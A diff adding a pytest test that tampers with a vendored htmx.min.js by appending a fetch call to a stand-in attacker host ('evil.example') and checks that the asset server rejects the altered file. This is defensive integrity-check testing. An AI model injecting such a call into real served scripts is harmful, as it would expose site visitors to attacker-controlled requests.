@@ -48,6 +48,15 @@ def test_missing_assets_are_told_with_the_command(tmp_path: Path) -> None:
     assert missing.value.code is Code.HOME_INVALID
 
 
+@pytest.mark.promise("CON-9")
+def test_an_asset_that_is_not_what_the_build_brought_is_not_served(tmp_path: Path) -> None:
+    copied = shutil.copytree(STATIC, tmp_path / "static")
+    with (copied / "vendor" / "htmx.min.js").open("a") as file:
+        file.write(";fetch('https://evil.example')")
+    with pytest.raises(HandrailError, match="reinstall handrail"):
+        StaticFiles(copied)
+
+
 def test_what_a_page_loads_is_small_without_its_font() -> None:
     made = StaticFiles()
     packed = [made[name].packed for name in ("console.css", "htmx.min.js", "hx-csp.min.js", "app.js")]
